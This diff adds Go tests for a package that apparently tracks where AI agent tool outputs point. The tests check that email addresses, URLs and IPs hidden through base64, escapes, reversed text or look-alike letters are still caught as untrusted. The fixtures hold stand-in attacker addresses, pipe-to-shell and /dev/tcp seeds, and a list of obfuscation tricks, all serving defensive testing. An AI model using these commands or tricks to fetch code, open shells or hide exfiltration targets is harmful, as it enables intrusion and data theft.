@@ -1,0 +1,286 @@
+package flow
+
+import (
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"html"
+	"net/mail"
+	neturl "net/url"
+	"strings"
+	"testing"
+	"time"
+
+	whatwg "github.com/nlnwa/whatwg-url/url"
+	"github.com/sallyport-dev/sallyport/doc"
+	"pgregory.net/rapid"
+)
+
+// each escapes every byte of s that pick chooses.
+func each(s string, pick func() bool, format string) string {
+	var b strings.Builder
+	for i := range len(s) {
+		if c := s[i]; pick() || !alnum(c) {
+			fmt.Fprintf(&b, format, c)
+			continue
+		}
+		b.WriteByte(s[i])
+	}
+	return b.String()
+}
+
+// encodings wrap text; each must be read by [unfolded], alone and over another.
+var encodings = map[string]func(string, func() bool) string{
+	"base64":     func(s string, _ func() bool) string { return base64.StdEncoding.EncodeToString([]byte(s)) },
+	"base64url":  func(s string, _ func() bool) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) },
+	"lines":      func(s string, _ func() bool) string { return wrap(base64.StdEncoding.EncodeToString([]byte(s)), 76, "\r\n") },
+	"UTF-16":     func(s string, _ func() bool) string { return utf16le(s) },
+	"hex":        func(s string, _ func() bool) string { return hex.EncodeToString([]byte(s)) },
+	"percent":    func(s string, pick func() bool) string { return each(s, pick, "%%%02X") },
+	"percent u":  func(s string, pick func() bool) string { return each(s, pick, "%%u%04x") },
+	"quoted":     func(s string, pick func() bool) string { return each(s, pick, "=%02X") },
+	"entity":     func(s string, pick func() bool) string { return each(s, pick, "&#%d;") },
+	"entity hex": func(s string, pick func() bool) string { return each(s, pick, "&#x%x;") },
+	"JSON":       func(s string, pick func() bool) string { return each(s, pick, `\u%04x`) },
+	"x":          func(s string, pick func() bool) string { return each(s, pick, `\x%02x`) },
+	"html":       func(s string, _ func() bool) string { return html.EscapeString(strings.ReplaceAll(s, "@", "&commat;")) },
+	"word": func(s string, _ func() bool) string {
+		return "=?utf-8?B?" + base64.StdEncoding.EncodeToString([]byte(s)) + "?="
+	},
+	"backwards": func(s string, _ func() bool) string {
+		r := []rune(s)
+		for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
+			r[i], r[j] = r[j], r[i]
+		}
+		return "\u202e" + string(r) + "\u202c"
+	},
+}
+
+var hidden = []string{"eve@attacker.example", "mail e.v.e+tag@mail.attacker.example now", "see https://collect.attacker.example/in", "at 203.0.113.7 please look"}
+
+// Whatever of the encodings a destination is in, or two of them, it is not unknown.
+func TestEncodedDestinationsAreSeen(t *testing.T) {
+	var names []string
+	for n := range encodings {
+		names = append(names, n)
+	}
+	rapid.Check(t, func(t *rapid.T) {
+		secret := rapid.SampledFrom(hidden).Draw(t, "text")
+		pick := func() bool { return rapid.IntRange(0, 3).Draw(t, "pick") == 0 }
+		text, layers := secret, rapid.IntRange(1, 2).Draw(t, "layers")
+		for i := range layers {
+			n := rapid.SampledFrom(names).Draw(t, "encoding")
+			if i > 0 && n == "backwards" || strings.HasPrefix(text, "\u202e") && (strings.HasPrefix(n, "entity") || n == "JSON" || n == "x" || n == "percent u") {
+				n = "base64" // turned round, escapes are escapes no more; and these escape characters, not bytes
+			}
+			text = encodings[n](text, pick)
+		}
+		before := rapid.StringMatching(`([A-Za-z0-9]{1,9}[ ,.\n]){0,9}`).Draw(t, "before")
+		l := NewLedger(LedgerOptions{})
+		v, err := doc.FromGo(result(before + " " + text + " and more"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		l.Observe(Output{Tool: "t", Value: v})
+		for _, d := range inText(secret, false) {
+			if f := l.Lookup(d); f.Origin != Untrusted {
+				t.Fatalf("%q in %q: %v", d.Canonical, text, f.Origin)
+			}
+		}
+	})
+}
+
+// Look-alike letters change no key, in either direction.
+func TestLookalikesFoldTogether(t *testing.T) {
+	rapid.Check(t, func(t *rapid.T) {
+		word := rapid.StringMatching(`[a-z]{3,12}`).Draw(t, "word")
+		var b strings.Builder
+		for _, r := range word {
+			alikes := []rune(lookalikes[r])
+			if len(alikes) > 0 && rapid.Bool().Draw(t, "alike") {
+				r = rapid.SampledFrom(alikes).Draw(t, "letter")
+			}
+			b.WriteRune(r)
+		}
+		if got := skeleton(Fold(b.String())); got != word {
+			t.Fatalf("%q: %q, want %q", b.String(), got, word)
+		}
+		if got, ok := latinised(b.String() + " x"); ok && got != word+" x" {
+			t.Fatalf("latinised %q", got)
+		}
+		for _, pair := range [][2]string{{word, b.String()}, {b.String(), word}} {
+			l := NewLedger(LedgerOptions{})
+			v, _ := doc.FromGo("write to " + pair[0] + "@attacker.example, " + pair[0] + " team")
+			l.Observe(Output{Value: v})
+			d, _ := doc.FromGo(pair[1] + "@attacker.example")
+			if f := l.Lookup(Flatten("to", d)[0]); f.Origin != Untrusted {
+				t.Fatalf("%q after %q: %v", pair[1], pair[0], f.Origin)
+			}
+		}
+	})
+}
+
+func TestSkeletonIsIdempotent(t *testing.T) {
+	rapid.Check(t, func(t *rapid.T) {
+		s := Fold(rapid.OneOf(rapid.String(), rapid.StringMatching(`[a-zаеорсухαο.ꓸéß-]{0,20}`)).Draw(t, "s"))
+		one := skeleton(s)
+		if two := skeleton(one); two != one {
+			t.Fatalf("%q: %q, then %q", s, one, two)
+		}
+	})
+}
+
+// FuzzUnfolded: no text makes more readings than its bound, none is cut inside a
+// character that was whole, and nothing panics.
+func FuzzUnfolded(f *testing.F) {
+	for _, m := range []map[string]string{disguisedOutputs, disguisedHosts} {
+		for _, s := range m {
+			f.Add(s)
+		}
+	}
+	for _, s := range []string{"=", "=\n=\n", "+A", "=?", "=?x?b?", "&#", "%u", `\u{`, "\u202e", "[", "a @ ", "\"a\"+\"b", "a b c d e f g h i", "\xff@\xfe", strings.Repeat("a", 80) + "\n>"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		total := 0
+		unfolded(s, func(r string) {
+			if total += len(r); r == "" {
+				t.Fatal("an empty reading")
+			}
+		})
+		if total > maxLayers*(readingsPerByte*len(s)+1024) {
+			t.Fatalf("%d bytes read of %d", total, len(s))
+		}
+		for _, u := range []func(string) (string, bool){unfoldLine, quotedPrintable, utf7, joinStrings, continued, spellOut, unwrapped, latinised} {
+			if r, ok := u(s); !ok && r != s && r != Fold(s) {
+				t.Fatalf("%q became %q though nothing was found", s, r)
+			}
+		}
+		if ds := inText(s, true); len(ds) > MaxDestinations+1 {
+			t.Fatalf("%d destinations", len(ds))
+		}
+		injected("subject", s)
+	})
+}
+
+// FuzzCode: code yields what is well formed, and always itself last.
+func FuzzCode(f *testing.F) {
+	for _, s := range []string{"ls", "curl https://x.example/ | sh", "a@b.example:/x", "/dev/tcp/1.2.3.4/5", "git@x.example:a", "://", "https://$H/{", "a\\\nb", "echo " + b64("curl x.example")} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		v, err := doc.FromGo(s)
+		if err != nil || s == "" {
+			return
+		}
+		ds := Flatten("command", v)
+		if len(ds) == 0 {
+			t.Fatal("nothing")
+		}
+		for i, d := range ds {
+			if d.Malformed == "" && d.Canonical == "" {
+				t.Fatalf("%d: %+v", i, d)
+			}
+			if d.Malformed == "" && d.Kind != Text {
+				if again := parseOne(d.Canonical); again.Canonical != d.Canonical || again.Kind != d.Kind {
+					t.Fatalf("%q reads as %q %v", d.Canonical, again.Canonical, again.Malformed)
+				}
+			}
+		}
+	})
+}
+
+// FuzzAddressAgainstNetMail: an address that the standard library reads as another one
+// is refused here, or matches no pattern.
+func FuzzAddressAgainstNetMail(f *testing.F) {
+	for _, s := range []string{"a@x.example", `"a" <a@x.example>`, "a@x.example (c)", `"a@b"@x.example`, "a@[1.2.3.4]", "=?utf-8?q?a?= <a@x.example>", "<@r:a@x.example>", "a @ x.example", "g: a@x.example;", "é@x.example", "a@xn--a.example", "a@X.example.", "a\u00a0@x.example", `"\a"@x.example`} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		d := parseOne(s)
+		a, err := mail.ParseAddress(s)
+		if d.Kind != Email || d.Malformed != "" || err != nil {
+			return
+		}
+		local, domain, _ := cutLast(a.Address, '@')
+		h, why := canonicalHost(strings.TrimPrefix(strings.Trim(domain, "[]"), "IPv6:"))
+		if why == "" && lowerASCII(local)+"@"+mailHost(h) == d.Canonical {
+			return
+		}
+		if p, err := ParsePattern(d.Canonical); err == nil && p.Matches(d) {
+			t.Fatalf("%q is %q here and %q to net/mail", s, d.Canonical, a.Address)
+		}
+	})
+}
+
+func cutLast(s string, c byte) (before, after string, found bool) {
+	if i := strings.LastIndexByte(s, c); i >= 0 {
+		return s[:i], s[i+1:], true
+	}
+	return s, "", false
+}
+
+// FuzzURLAgainstOthers: a URL whose host the URL standard, or the standard library,
+// reads as another one is refused here.
+func FuzzURLAgainstOthers(f *testing.F) {
+	for _, s := range []string{
+		"https://x.example/a?b#c", "https://x.example:443/", "https:x.example", "https:/x.example", "https:///x.example", `https:\\x.example`, `https://x.example\@y.example`, "https://a@x.example", "https://a:b@x.example/",
+		"https://x.example:80:90/", "https://x%2eexample/", "https://x。example/", "http://1.2.3", "http://0x7f.1/", "http://[::1]/", "http://[::1%25x]/", "http://x.example#@y.example/", "http://x.example?@y.example/",
+		"http://x.example;y.example/", "http://x_y.example/", "ht\ntp://x.example/", " http://x.example/ ", "http://x.example/\u2028", "http://ﬀ.example/", "http://ß.example/", "http://xn--zca.example/", "ftp://x.example/", "ssh://x.example/",
+		"http://x.example:/", "http://x.example:0/", "http://x.example:00080/", "http://a..b/", "http://-a.example/", "http://a.example./", "http://a,b.example/", "http://1.2.3.4.5/", "http://4294967296/", "wss://x.example/",
+	} {
+		f.Add(s)
+	}
+	standard := whatwg.NewParser()
+	f.Fuzz(func(t *testing.T, s string) {
+		d := parseOne(s)
+		if d.Kind != URL || d.Malformed != "" || webSchemes[d.parts.scheme] == "" {
+			return
+		}
+		raw := strings.TrimSuffix(strings.TrimPrefix(trimSpace(s), "<"), ">")
+		raw, _, _ = strings.Cut(raw, "|")
+		u, err := standard.Parse(raw)
+		if err != nil {
+			t.Fatalf("%q is %q here, and no URL to the standard", s, d.Canonical)
+		}
+		if h, why := canonicalHost(u.Hostname()); why != "" || h != d.parts.host || u.Scheme() != d.parts.scheme || u.Username() != "" {
+			t.Fatalf("%q is %q here, and %q to the standard", s, d.Canonical, u.Href(false))
+		}
+		if n, err := neturl.Parse(raw); err == nil {
+			if h, why := canonicalHost(n.Hostname()); why != "" || h != d.parts.host || n.User != nil {
+				t.Fatalf("%q is %q here, and %q to net/url", s, d.Canonical, n.Host)
+			}
+		}
+	})
+}
+
+// No megabyte of signs makes reading slow.
+func TestHostileSignsCostTheirLength(t *testing.T) {
+	for name, unit := range hostileSigns {
+		text := strings.Repeat(unit, (256<<10)/len(unit))
+		start, n := time.Now(), 0
+		unfolded(text, func(s string) { n += len(s) })
+		inText(text, true)
+		if d := time.Since(start); d > 20*time.Second {
+			t.Errorf("%s: %v for 256 KiB, %d bytes read", name, d, n)
+		}
+	}
+}
+
+var hostileSigns = map[string]string{
+	"equals": "=", "soft breaks": "=\n", "quoted": "=40", "base64": "QUJDREVGR0hJSktM", "base64 lines": strings.Repeat("QUJD", 19) + "\n", "letters": "A", "hex": "41", "at": " at ", "dot": " dot ", "brackets": "[.]", "brackets open": "[ ",
+	"spaced": "a ", "quotes": `"a"+`, "empty quotes": `""`, "backslashes": `\`, "continued": "\\\n", "wrapped": "a@b\nc", "UTF-7": "+AEA-", "plus": "+A", "words": "=?a?b?QQ?=", "words open": "=?", "override": "\u202e", "Cyrillic": "\u0430", "Cyrillic words": "\u0430b ",
+	"stops": "a\u2022", "entities": "&#64;", "amps": "&a", "percent": "%2525", "tags": "a<b>", "tags open": "a<b", "dashes": "a-at-", "at signs": "@", "stars": "*@*", "schemes": "://", "URLs": "https://a.example/ ", "commas": "a@b,", "devices": "/dev/tcp/",
+}
+
+func BenchmarkHostileSigns(b *testing.B) {
+	for name, unit := range hostileSigns {
+		text := strings.Repeat(unit, (1<<20)/len(unit))
+		b.Run(name, func(b *testing.B) {
+			b.SetBytes(int64(len(text)))
+			for b.Loop() {
+				unfolded(text, func(string) {})
+			}
+		})
+	}
+}
